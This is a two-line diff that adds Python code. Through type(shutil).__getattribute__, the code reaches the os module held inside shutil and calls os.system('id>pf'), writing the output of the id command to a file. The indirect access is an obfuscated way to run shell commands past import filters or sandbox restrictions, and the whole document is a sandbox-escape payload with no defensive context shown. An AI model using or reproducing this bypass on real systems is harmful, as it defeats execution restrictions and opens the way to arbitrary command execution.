@@ -1,0 +1,2 @@
+import shutil
+type(shutil).__getattribute__(shutil, "os").system("id>pf")
